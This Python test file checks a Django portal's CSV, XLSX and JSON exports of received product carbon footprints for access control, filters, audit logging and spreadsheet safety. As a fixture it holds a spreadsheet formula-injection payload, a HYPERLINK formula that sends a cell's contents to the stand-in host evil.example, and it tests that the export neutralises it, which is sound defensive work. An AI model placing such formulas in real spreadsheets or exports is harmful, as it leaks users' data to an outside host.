"""Exports of a buyer's received footprints (exchange.exports via the portal): CSV and
XLSX a spreadsheet opens safely (formula-looking cells neutralised, figures as
numbers), JSON with the documents as served; the list's filters apply; nothing that
was not granted is exported; every export is a pull in the audit log."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import openpyxl
import pytest
from django.urls import reverse

from audit.models import AuditEntry
from exchange import exports, sharing
from exchange.selectors import footprint_document
from tests.exchange.test_sharing_portal import (
    NICKEL_URN,
    grant,
    portal,
    submit,
)
from tests.sharing.helpers import attested, third_buyer

pytestmark = pytest.mark.django_db

FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def export(client, file_format: str, **filters: str):
    return client.get(
        reverse("exchange:received-export", kwargs={"file_format": file_format}), filters
    )


def csv_rows(response) -> list[dict[str, str]]:
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf")  # a BOM, for spreadsheets
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def last_pull(company: str) -> dict[str, Any]:
    entry = AuditEntry.objects.filter(type="footprint.pulled", company=company).latest("seq")
    return json.loads(bytes(entry.payload))


@pytest.fixture
def received(cast):
    """Two acme footprints granted to the outsider's company (one verified, one with a
    formula for a name) and one granted to a third buyer only."""
    verified = cast.footprint
    attested(cast)
    tricky = submit(
        cast,
        NICKEL_URN,
        productNameCompany=FORMULA_NAME,
        pcf={"pcfIncludingBiogenicUptake": "-0.5", "primaryDataShare": "12.5"},
    )
    for footprint in (verified, tricky):
        grant(cast, footprint)
    hidden = submit(cast, "urn:pact:acme.example:product:hidden", productNameCompany="Hidden")
    third, _ = third_buyer(cast)
    grant(cast, hidden, buyer=third)
    return {"verified": verified, "tricky": tricky, "hidden": hidden}


def test_the_csv_export_is_safe_to_open(cast, received):
    response = export(portal(cast.outsider), "csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="received-footprints-')
    rows = {row["Footprint id"]: row for row in csv_rows(response)}
    assert set(rows) == {str(received["verified"].pf_id), str(received["tricky"].pf_id)}
    verified = rows[str(received["verified"].pf_id)]
    assert verified["Supplier"] == "Acme Lithium Co., Ltd."
    assert verified["Supplier id"] == "acme"
    assert verified["PCF excl. biogenic uptake (kg CO2e)"] == "11.87"
    assert verified["Verification"] == "verified"
    assert verified["Verifier"] == "Verity Assurance GmbH"
    assert verified["Assurance level"] == "Limited assurance"
    assert verified["Primary data share (%)"] == "62.5"
    assert verified["Access"] == "grant"
    tricky = rows[str(received["tricky"].pf_id)]
    assert tricky["Product"] == "'" + FORMULA_NAME  # shown as text, never run
    assert tricky["PCF incl. biogenic uptake (kg CO2e)"] == "-0.5"  # a number stays one
    assert tricky["Verification"] == "not verified"
    for row in rows.values():
        for value in row.values():
            assert value[:1] not in {"=", "+", "@"}, value


def test_the_xlsx_export_has_numbers_and_no_formulas(cast, received):
    response = export(portal(cast.outsider), "xlsx")

    assert response.status_code == 200
    assert response["Content-Type"] == exports.CONTENT_TYPES["xlsx"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    assert header == list(exports.COLUMNS)
    rows = [dict(zip(header, [c for c in row], strict=True)) for row in sheet.iter_rows(min_row=2)]
    assert len(rows) == 2
    for row in rows:
        for cell in row.values():
            assert cell.data_type != "f", cell.value
    by_name = {row["Product"].value: row for row in rows}
    tricky = by_name["'" + FORMULA_NAME]
    assert tricky["PCF incl. biogenic uptake (kg CO2e)"].value == -0.5
    assert tricky["Primary data share (%)"].value == 12.5
    verified = by_name["MJ-LC995 battery-grade lithium carbonate"]
    assert verified["PCF excl. biogenic uptake (kg CO2e)"].value == pytest.approx(11.87)
    assert verified["Verification"].value == "verified"


def test_the_json_export_holds_the_documents_as_served(cast, received):
    response = export(portal(cast.outsider), "json")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    documents = {d["id"]: d for d in response.json()["data"]}
    assert set(documents) == {str(received["verified"].pf_id), str(received["tricky"].pf_id)}
    verified = received["verified"]
    verified.refresh_from_db()
    assert documents[str(verified.pf_id)] == footprint_document(verified)
    assert documents[str(verified.pf_id)]["pcf"]["verification"]["providerName"] == (
        "Verity Assurance GmbH"
    )
    assert "verification" not in documents[str(received["tricky"].pf_id)]["pcf"]


def test_exports_follow_the_lists_filters(cast, received):
    client = portal(cast.outsider)
    only_verified = export(client, "json", verification="verified").json()["data"]
    assert [d["id"] for d in only_verified] == [str(received["verified"].pf_id)]
    by_name = csv_rows(export(client, "csv", q="HYPERLINK"))
    assert [r["Footprint id"] for r in by_name] == [str(received["tricky"].pf_id)]
    one = export(client, "json", footprint=str(received["tricky"].pf_id)).json()["data"]
    assert [d["id"] for d in one] == [str(received["tricky"].pf_id)]
    assert export(client, "json", supplier="nobody").json()["data"] == []


def test_every_export_is_a_pull(cast, received):
    client = portal(cast.outsider)
    for file_format in ("csv", "xlsx", "json"):
        export(client, file_format)
        pull = last_pull("other")
        assert pull["channel"] == f"portal:{file_format}"
        assert set(pull["footprints"]) == {
            str(received["verified"].pf_id),
            str(received["tricky"].pf_id),
        }


def test_nothing_ungranted_or_revoked_is_exported(cast, received):
    client = portal(cast.outsider)
    revoked = sharing.grant_revoke(
        actor=cast.actor("admin"),
        grant=received["tricky"].grants.get(),
        reason="contract ended",
    )
    assert revoked.revoked_at is not None
    hidden = [str(received["hidden"].pf_id), received["hidden"].sha256, "Hidden"]
    for file_format in ("csv", "json"):
        text = export(client, file_format).content.decode("utf-8-sig")
        assert not [h for h in hidden if h in text]
        assert str(received["tricky"].pf_id) not in text
    # a company that received nothing exports an empty file (the header only)
    assert csv_rows(export(portal(cast.op_admin), "csv")) == []
    assert export(portal(cast.op_admin), "json").json() == {"data": []}
    # acme's own footprints are not "received"
    assert export(portal(cast.editor), "json").json() == {"data": []}


def test_an_unknown_format_is_not_found(cast):
    assert export(portal(cast.outsider), "pdf").status_code == 404


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+31 20 555", "'+31 20 555"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("-0.5", "-0.5"),
        ("12.5", "12.5"),
        ("1e-3", "1e-3"),
        ("Li2CO3 = lithium carbonate", "Li2CO3 = lithium carbonate"),
        ("", ""),
    ],
)
def test_formula_looking_cells_are_neutralised(text, shown):
    assert exports.inert(text) == shown
